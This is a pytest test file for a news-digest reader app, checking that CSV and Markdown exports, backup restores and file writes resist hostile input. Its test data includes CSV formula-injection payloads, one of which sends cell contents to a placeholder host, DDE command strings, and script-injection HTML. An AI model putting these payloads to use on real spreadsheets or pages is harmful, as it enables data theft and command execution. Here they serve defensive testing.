"""What leaves the app and what comes back, against hostile text, hostile files and power cuts:
CSV cells never run as formulas, Markdown carries no markup a viewer would run yet imports back
as the same items, a damaged backup is refused whole in one sentence, exports write only regular
files (never through a link, never over a device), and what is written is on the disk before an
older copy is let go."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import threading
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PySide6.QtWidgets import QMessageBox

from telereader.app.dialogs.recovery import offer_recovery
from telereader.cli import main
from telereader.core.backup import (
    AUTO_FOLDER,
    auto_backup,
    latest_auto_backup,
    read_backup,
    restore_backup,
    write_backup,
)
from telereader.core.export import export, selected, to_csv, to_markdown
from telereader.core.files import write_atomically
from telereader.core.filters import ItemFilter
from telereader.core.importer import import_paths
from telereader.core.mdescape import escape_markup, unescape_markup
from telereader.core.messages import render
from telereader.core.model import Problem
from telereader.core.recovery import start_afresh
from telereader.core.store import LIBRARY_FILE, LibraryError, Store
from telereader.core.watchlists import rename_watchlist, save_watchlist, set_keywords, watchlists
from tests.conftest import SAMPLE
from tests.test_backup import reader_data
from tests.test_backup import used_store as used_store
from tests.test_export import comparable, everything
from tests.test_recovery import press, used_library


def import_digest(store: Store, tmp_path: Path, lines: list[str], day: str = "2026-03-05") -> None:
    path = tmp_path / f"{day}.md"
    path.write_text(f"# 财联社【普通】电报 - {day}\n\n" + "\n\n".join(lines) + "\n", encoding="utf-8")
    report = import_paths(store, [path])
    assert report.rejected == []


# ---- point 6: CSV cells never run as formulas ---------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def csv_rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(store, tmp_path):
    import_digest(
        store,
        tmp_path,
        [f"**[09:0{n}]** 【{formula}】正文。" for n, formula in enumerate(FORMULAS)]
        + ["**[09:10]** \t=1+1", "**[09:11]** @import 这是正文"],
    )
    items = everything(store)
    store.set_note(items[0].id, "=WEBSERVICE(\"http://evil.example\")")
    store.set_note(items[1].id, "\r=1+1")
    rows = csv_rows(to_csv(everything(store)))
    assert [row["title"] for row in rows[:4]] == ["'" + formula for formula in FORMULAS]
    assert rows[4]["body"] == "'=1+1"  # the parser dropped the tab; the formula is still caught
    assert rows[5]["body"] == "'@import 这是正文"
    assert rows[0]["note"] == "'=WEBSERVICE(\"http://evil.example\")"
    assert rows[1]["note"] == "'\r=1+1"
    for row in rows:
        for value in row.values():
            assert not re.match(r"\s*[=+\-@]", value) and not value.startswith(("\t", "\r"))


def test_plain_numbers_stay_numbers_and_ordinary_text_is_untouched(store, tmp_path):
    import_digest(store, tmp_path, ["**[09:00]** 【金价】上涨。", "**[09:01]** 下跌。"])
    items = everything(store)
    store.set_note(items[0].id, "-3.5%")
    store.set_note(items[1].id, "-12")
    rows = csv_rows(to_csv(everything(store)))
    assert [row["note"] for row in rows] == ["-3.5%", "-12"]
    assert (rows[0]["title"], rows[0]["body"]) == ("金价", "上涨。")


def test_json_keeps_hostile_text_verbatim(store, tmp_path):
    import_digest(store, tmp_path, [f"**[09:00]** 【{FORMULAS[0]}】<img src=x onerror=alert(1)>"])
    (item,) = json.loads(export(everything(store), "json"))
    assert item["title"] == FORMULAS[0] and item["body"] == "<img src=x onerror=alert(1)>"


# ---- point 6: Markdown without markup a viewer runs, and the same items back ----------------------

HOSTILE_TITLES = [
    "<img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<script>alert(1)</script>",
    "<!-- hides the rest -->",
    "</div><a href='javascript:x'>点</a>",
    "<http://evil.example/>",
    "&#60;b>already an entity&#38;#60;i>",
    "价格<5%，&lt;tag&gt; 与 \\<em>",
]
# What CommonMark (and Obsidian, Typora, GitHub) would take as the start of raw HTML or an autolink.
RAW_MARKUP = re.compile(r"<[A-Za-z!?/]")


def test_markdown_export_carries_no_raw_html_and_imports_back_the_same_items(store, tmp_path):
    import_digest(
        store,
        tmp_path,
        # written the way an export writes them, so that the titles arrive exactly as listed
        [f"**[09:{n:02d}]** 【{escape_markup(title)}】正文 <b>粗</b> <iframe src=x>" for n, title
         in enumerate(HOSTILE_TITLES)] + ["**[10:00]** <script>alert(2)</script> 没有标题"],
    )  # fmt: skip
    items = everything(store)
    assert [item.title for item in items][: len(HOSTILE_TITLES)] == HOSTILE_TITLES
    assert items[0].body == "正文 <b>粗</b> <iframe src=x>"
    store.set_note(items[0].id, "<style>*{color:red}</style>\n<img src=x onerror=alert(3)>")
    text = to_markdown(everything(store))
    assert not RAW_MARKUP.findall(text)
    exported = tmp_path / "export" / "export.md"
    exported.parent.mkdir()
    exported.write_text(text, encoding="utf-8")
    with Store.open(tmp_path / "fresh") as fresh:
        report = import_paths(fresh, [exported])
        assert report.rejected == [] and report.files[0].warnings == []
        assert comparable(everything(fresh)) == comparable(everything(store))
        assert [item.title for item in everything(fresh)][: len(HOSTILE_TITLES)] == HOSTILE_TITLES


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<&#38;60;ab/!? \\x", max_size=40))
def test_escaping_markup_is_undone_exactly_and_leaves_no_tag_start(text):
    escaped = escape_markup(text)
    assert unescape_markup(escaped) == text
    assert not RAW_MARKUP.search(escaped)


# ---- point 7: a hostile backup is refused whole, in one sentence ---------------------------------

HEAD = '{"format": "telereader-backup", "version": 1, '
HOSTILE_BACKUPS = {
    "version text": ('{"format": "telereader-backup", "version": "abc"}', "version"),
    "version null": ('{"format": "telereader-backup", "version": null}', "version"),
    "version list": ('{"format": "telereader-backup", "version": [1]}', "version"),
    "null": ("null", None),
    "a list": ("[1]", None),
    "stars a number": (HEAD + '"stars": 5}', "stars"),
    "stars null": (HEAD + '"stars": null}', "stars"),
    "a star a number": (HEAD + '"stars": [1]}', "stars[0]"),
    "a star without item_id": (HEAD + '"stars": [{"starred_at": "2026-01-14T09:00:00"}]}',
                               "stars[0].item_id"),
    "item_id a list": (HEAD + '"stars": [{"item_id": "x"}, {"item_id": ["a"]}]}',
                       "stars[1].item_id"),
    "nested": ("[" * 100_000, None),
    "updated_at an object": (
        HEAD + '"notes": [{"item_id": "x", "text": "t", "updated_at": {}}]}', "notes[0].updated_at"
    ),
    "updated_at not a time": (
        HEAD + '"notes": [{"item_id": "x", "text": "t", "updated_at": "zzz"}]}',
        "notes[0].updated_at",
    ),
    "note text a number": (HEAD + '"notes": [{"item_id": "x", "text": 5}]}', "notes[0].text"),
    "keywords text": (HEAD + '"watchlists": [{"name": "持仓", "keywords": "abc"}]}',
                      "watchlists[0].keywords"),
    "a keyword a number": (HEAD + '"watchlists": [{"name": "持仓", "keywords": ["a", 1]}]}',
                           "watchlists[0].keywords[1]"),
    "name with a newline": (HEAD + '"watchlists": [{"name": "a\\nb", "keywords": []}]}',
                            "watchlists[0].name"),
    "colour an object": (HEAD + '"watchlists": [{"name": "x", "colour": {}, "keywords": []}]}',
                         "watchlists[0].colour"),
    "reads a string": (HEAD + '"reads": "abc"}', "reads"),
}  # fmt: skip


@pytest.mark.parametrize("case", list(HOSTILE_BACKUPS))
def test_a_hostile_backup_is_refused_in_one_sentence_and_changes_nothing(
    used_store, tmp_path, case
):
    content, field = HOSTILE_BACKUPS[case]
    bad = tmp_path / "bad.json"
    bad.write_text(content, encoding="utf-8")
    before = reader_data(used_store)
    with pytest.raises(LibraryError) as refused:
        restore_backup(used_store, bad)
    assert reader_data(used_store) == before
    for language in ("en", "zh"):
        sentence = render(refused.value.problem, language)
        assert "\n" not in sentence and str(bad) in sentence
        if field is not None:
            assert f"“{field}”" in sentence or f"「{field}」" in sentence, sentence


@pytest.mark.parametrize("case", list(HOSTILE_BACKUPS))
def test_the_cli_refuses_a_hostile_backup_with_exit_1_and_one_line(
    capsys, used_store, tmp_path, case
):
    bad = tmp_path / "bad.json"
    bad.write_text(HOSTILE_BACKUPS[case][0], encoding="utf-8")
    before = reader_data(used_store)
    code = main(["--data-dir", str(used_store.path.parent), "restore", str(bad)])
    captured = capsys.readouterr()
    assert code == 1 and captured.out == ""
    assert captured.err.startswith("telereader: ") and captured.err.count("\n") == 1
    assert "Traceback" not in captured.err
    assert reader_data(used_store) == before


def test_keywords_as_text_no_longer_become_one_keyword_per_character(used_store, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text(HEAD + '"watchlists": [{"name": "新列表", "keywords": "abc"}]}', "utf-8")
    with pytest.raises(LibraryError):
        restore_backup(used_store, bad)
    assert [w.name for w in watchlists(used_store)] == ["持仓"]


def test_a_sound_backup_still_passes_the_whole_file_check(used_store, tmp_path):
    backup = write_backup(used_store, tmp_path / "good.json")
    data = read_backup(backup)
    assert data["format"] == "telereader-backup" and data["watchlists"][0]["name"] == "持仓"
    with Store.open(tmp_path / "fresh") as fresh:
        report = restore_backup(fresh, backup)
        assert (report.stars, report.notes, report.reads, report.watchlists) == (2, 1, 10, 1)


# ---- point 8: only regular files are written -----------------------------------------------------


def export_to(capsys, store: Store, target: Path | str, *more: str) -> tuple[int, str]:
    code = main(["--data-dir", str(store.path.parent), "export", "--format", "csv",
                 "-o", str(target), *more])  # fmt: skip
    return code, capsys.readouterr().err


@pytest.fixture
def sample_store(store):
    import_paths(store, [SAMPLE])
    return store


def test_export_refuses_a_fifo_and_a_directory_with_a_reason(capsys, sample_store, tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    code, err = export_to(capsys, sample_store, fifo, "--force")
    assert code == 1 and "FIFO" in err and err.count("\n") == 1
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    code, err = export_to(capsys, sample_store, folder, "--force")
    assert code == 1 and "a folder" in err and err.count("\n") == 1
    assert folder.is_dir() and list(folder.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "library") == [
        "folder.csv", "pipe.csv"
    ]  # fmt: skip


def test_export_refuses_a_device_node(capsys, sample_store, tmp_path):
    device = tmp_path / "null.csv"
    try:
        os.mknod(device, stat.S_IFCHR | 0o600, os.makedev(1, 3))
    except (PermissionError, OSError):
        pytest.skip("creating a device node needs root")
    code, err = export_to(capsys, sample_store, device, "--force")
    assert code == 1 and "device" in err
    assert stat.S_ISCHR(device.lstat().st_mode)


def test_export_refuses_a_symlink_and_leaves_link_and_target_alone(capsys, sample_store, tmp_path):
    target = tmp_path / "elsewhere.txt"
    target.write_text("someone else's file", encoding="utf-8")
    link = tmp_path / "out.csv"
    link.symlink_to(target)
    code, err = export_to(capsys, sample_store, link, "--force")
    assert code == 1 and "symbolic link" in err and str(target) in err
    assert link.is_symlink() and target.read_text(encoding="utf-8") == "someone else's file"
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    code, err = export_to(capsys, sample_store, dangling)
    assert code == 1 and "symbolic link" in err
    assert dangling.is_symlink() and not (tmp_path / "nowhere.csv").exists()


def test_a_backup_is_never_written_through_a_link_either(capsys, sample_store, tmp_path):
    target = tmp_path / "elsewhere.json"
    target.write_text("keep", encoding="utf-8")
    (tmp_path / "mine.json").symlink_to(target)
    code = main(["--data-dir", str(sample_store.path.parent), "backup", "-o",
                 str(tmp_path / "mine.json"), "--force"])  # fmt: skip
    assert code == 1 and "symbolic link" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == "keep"


def test_dash_means_standard_output(capsys, sample_store, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _ = export_to(capsys, sample_store, "-")
    assert code == 0 and not (tmp_path / "-").exists()
    (tmp_path / "-").write_text("a file named dash", encoding="utf-8")
    code = main(["--data-dir", str(sample_store.path.parent), "export", "--format", "json",
                 "-o", "-"])  # fmt: skip
    assert code == 0 and len(json.loads(capsys.readouterr().out)) == 93
    assert (tmp_path / "-").read_text(encoding="utf-8") == "a file named dash"


def test_a_long_chinese_file_name_is_written(capsys, sample_store, tmp_path):
    name = "财联社电报导出" * 11 + "长名字测试" + ".csv"  # 82 characters, 246 bytes
    assert len(name) == 86 and len(name.encode()) == 250
    code, err = export_to(capsys, sample_store, tmp_path / name)
    assert code == 0, err
    assert (tmp_path / name).read_text(encoding="utf-8-sig").startswith("day,time,title")
    assert [p.name for p in tmp_path.iterdir() if p.name not in ("library", name)] == []


def test_two_writers_of_one_path_do_not_share_a_temporary_file(tmp_path, monkeypatch):
    """The second export starts while the first is about to move its file into place."""
    target = tmp_path / "out.md"
    real_replace = os.replace
    started = []

    def replace_after_another_export(source, destination):
        if not started:
            started.append(True)
            write_atomically(target, "second export")
        real_replace(source, destination)

    monkeypatch.setattr(os, "replace", replace_after_another_export)
    write_atomically(target, "first export")
    assert target.read_text(encoding="utf-8") == "first export"
    assert [p.name for p in tmp_path.iterdir()] == ["out.md"]


def test_eight_parallel_exports_to_one_path_all_succeed(tmp_path):
    target = tmp_path / "same.csv"
    errors: list[BaseException] = []
    texts = [f"export {n}\n" * 20_000 for n in range(8)]

    def run(text: str) -> None:
        try:
            write_atomically(target, text)
        except BaseException as error:
            errors.append(error)

    threads = [threading.Thread(target=run, args=(text,)) for text in texts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert target.read_text(encoding="utf-8") in texts
    assert [p.name for p in tmp_path.iterdir()] == ["same.csv"]


def test_the_refusal_is_worded_in_chinese_too():
    problem = Problem("output_fifo", params={"path": "/tmp/x"})
    assert "FIFO" in render(problem, "zh") and "普通文件" in render(problem, "zh")


# ---- point 9: on the disk before older copies go; a damaged newest copy is passed over ------------


@pytest.fixture
def fsync_log(monkeypatch) -> list[tuple[str, str]]:
    """What reached the disk and what was removed, in order."""
    log: list[tuple[str, str]] = []
    real_fsync, real_replace, real_unlink = os.fsync, os.replace, os.unlink

    def fsync(fd: int) -> None:
        kind = "folder" if stat.S_ISDIR(os.fstat(fd).st_mode) else "file"
        log.append(("fsync " + kind, os.readlink(f"/proc/self/fd/{fd}")))
        real_fsync(fd)

    def replace(source, destination) -> None:
        log.append(("replace", str(destination)))
        real_replace(source, destination)

    def unlink(path, *args, **kwargs) -> None:
        log.append(("unlink", str(path)))
        real_unlink(path, *args, **kwargs)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    monkeypatch.setattr(os, "unlink", unlink)
    return log


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc")
def test_an_export_is_synced_then_moved_then_its_folder_synced(tmp_path, fsync_log):
    target = write_atomically(tmp_path / "out.md", "text")
    events = [(event, Path(where).name if event != "fsync folder" else where)
              for event, where in fsync_log]  # fmt: skip
    assert events[0][0] == "fsync file" and events[1] == ("replace", "out.md")
    assert events[2] == ("fsync folder", str(tmp_path))
    assert target.read_text(encoding="utf-8") == "text"


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc")
def test_old_automatic_backups_are_pruned_only_after_the_new_one_is_on_disk(
    used_store, tmp_path, fsync_log
):
    data_dir = tmp_path / "auto"
    for number in range(3):
        used_store.set_note(everything(used_store)[number].id, f"笔记 {number}")
        assert auto_backup(used_store, data_dir, min_interval_s=0, keep=2) is not None
    fsync_log.clear()
    used_store.set_note(everything(used_store)[5].id, "最新")
    newest = auto_backup(used_store, data_dir, min_interval_s=0, keep=2)
    events = [event for event, _ in fsync_log]
    first_unlink = events.index("unlink")
    assert events[:first_unlink] == ["fsync file", "replace", "fsync folder"]
    assert fsync_log[1] == ("replace", str(newest))
    assert len(list((data_dir / AUTO_FOLDER).glob("backup-*.json"))) == 2


def spoil_newest_backup(data_dir: Path, how: str) -> Path:
    newest = latest_auto_backup(data_dir)
    broken = newest.with_name("backup-99991231-235959-000000.json")  # sorts last
    text = newest.read_text(encoding="utf-8")
    broken.write_text("" if how == "empty" else text[: len(text) // 2], encoding="utf-8")
    return newest


@pytest.mark.parametrize("how", ["empty", "truncated"])
def test_the_newest_good_automatic_backup_is_chosen_when_the_newest_is_damaged(data_dir, how):
    starred = used_library(data_dir)
    good = spoil_newest_backup(data_dir, how)
    assert latest_auto_backup(data_dir) == good
    (data_dir / LIBRARY_FILE).write_bytes(b"garbage" * 1000)
    recovery = start_afresh(data_dir, from_backup=True)
    with recovery.store as store:
        assert recovery.backup == good and recovery.restored.stars == 2
        import_paths(store, [SAMPLE])
        assert {row[0] for row in store.db.execute("SELECT item_id FROM stars")} == set(starred)


def test_the_window_restores_the_good_backup_beside_an_empty_newest_one(
    qapp, data_dir, monkeypatch
):
    errors: list[str] = []
    monkeypatch.setattr(QMessageBox, "critical", lambda _parent, _title, text: errors.append(text))
    starred = used_library(data_dir)
    spoil_newest_backup(data_dir, "empty")
    (data_dir / LIBRARY_FILE).write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 5000)
    problem = Problem("not_a_library", params={"path": str(data_dir / LIBRARY_FILE)})
    store = offer_recovery(problem, data_dir, "en", choose=press("restore"))
    assert errors == [] and store is not None
    with store:
        import_paths(store, [SAMPLE])
        assert {row[0] for row in store.db.execute("SELECT item_id FROM stars")} == set(starred)


def test_a_damaged_newest_backup_does_not_hold_back_the_next_one(used_store, tmp_path):
    data_dir = tmp_path / "auto"
    auto_backup(used_store, data_dir, min_interval_s=0)
    (data_dir / AUTO_FOLDER / "backup-99991231-235959-000000.json").write_text("", "utf-8")
    assert auto_backup(used_store, data_dir, min_interval_s=3600) is not None


# ---- point 14: watchlist names are one line ------------------------------------------------------


@pytest.mark.parametrize("name", ["a\nb", "a\rb", "tab\tname", "esc\x1b[8m", "nul\x00", "del\x7f"])
def test_a_watchlist_name_with_a_control_character_is_refused(store, name):
    with pytest.raises(LibraryError) as refused:
        save_watchlist(store, name, ["黄金"])
    assert refused.value.problem.code == "watch_bad_name"
    assert watchlists(store) == []
    kept = save_watchlist(store, "持仓", ["黄金"])
    with pytest.raises(LibraryError):
        rename_watchlist(store, kept.id, name)
    assert [w.name for w in watchlists(store)] == ["持仓"]


def test_the_cli_refuses_a_watchlist_name_with_a_newline(capsys, store):
    code = main(["--data-dir", str(store.path.parent), "watch", "add", "a\nb", "黄金"])
    err = capsys.readouterr().err
    assert code == 1 and err.count("\n") == 1 and "control character" in err
    assert watchlists(store) == []


def test_an_old_list_with_a_newline_in_its_name_stays_one_name_in_csv(store, tmp_path):
    import_digest(store, tmp_path, ["**[09:00]** 【黄金】金价上涨。"])
    listed = save_watchlist(store, "旧列表", ["黄金"])
    store.db.execute("UPDATE watchlists SET name = 'a\nb' WHERE id = ?", [listed.id])
    store.db.conn.commit()
    set_keywords(store, listed.id, ["黄金", "金价"])  # an old name does not block other edits
    rows = csv_rows(to_csv(selected(store, ItemFilter())))
    assert len(rows) == 1 and rows[0]["watchlists"] == "a b"
    assert to_csv(selected(store, ItemFilter())).count("\r\n") == 2

